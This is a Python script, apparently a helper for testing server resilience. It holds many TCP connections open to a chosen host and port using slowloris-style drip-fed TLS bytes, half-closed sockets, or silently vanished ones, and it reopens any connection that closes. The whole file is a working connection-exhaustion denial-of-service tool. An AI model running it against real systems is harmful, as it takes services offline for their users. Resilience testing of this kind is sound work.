"""A stranger's process: keeps many connections to one address open, and opens another where one is closed.

``python flooder.py HOST PORT SOURCE COUNT KIND``; prints a line once all have been opened.
"""

import contextlib
import heapq
import os
import selectors
import socket
import sys
import time

CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # The beginning of a TLS ClientHello.
DRIP_S = 1.0  # The time between two bytes on a connection.
AGAIN_S = 0.1  # The time until a closed connection is replaced.
TCP_REPAIR = 19  # A socket in repair mode closes without telling its peer.


def opened(host: str, port: int, source: str) -> socket.socket:
    sock = socket.socket()
    sock.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        sock.bind((source, 0))
        sock.connect((host, port))
    return sock


def begin(sock: socket.socket, kind: str) -> bool:
    """Send what the kind sends first. Return whether the connection stays open on this side."""
    if kind == "slowloris":
        sock.send(CLIENT_HELLO)
    elif kind == "half-closed":
        sock.shutdown(socket.SHUT_WR)
    elif kind == "vanished":
        with contextlib.suppress(PermissionError):
            sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
        return False
    return True


def main() -> None:
    host, port, source, count, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
    selector, due, number, reported = selectors.DefaultSelector(), [(0.0, n) for n in range(count)], count, False
    dripping: dict[socket.socket, float] = {}
    opens = 0
    while True:
        now = time.monotonic()
        while due and due[0][0] <= now:
            heapq.heappop(due)
            sock = opened(host, port, source)
            selector.register(sock, selectors.EVENT_WRITE)
            opens += 1
        if opens >= count and not reported:
            print("open", flush=True)
            reported = True
        for key, events in selector.select(0.05):
            sock = key.fileobj
            try:
                if events & selectors.EVENT_WRITE:
                    if not begin(sock, kind):
                        raise ConnectionError
                    selector.modify(sock, selectors.EVENT_READ)
                    if kind == "slowloris":
                        dripping[sock] = now + DRIP_S
                elif not sock.recv(4096):
                    raise ConnectionError
            except OSError:
                selector.unregister(sock)
                sock.close()
                dripping.pop(sock, None)
                number += 1
                heapq.heappush(due, (now + AGAIN_S, number))
        for sock, when in list(dripping.items()):
            if when <= now:
                dripping[sock] = now + DRIP_S
                with contextlib.suppress(OSError):
                    sock.send(os.urandom(1))


if __name__ == "__main__":
    main()
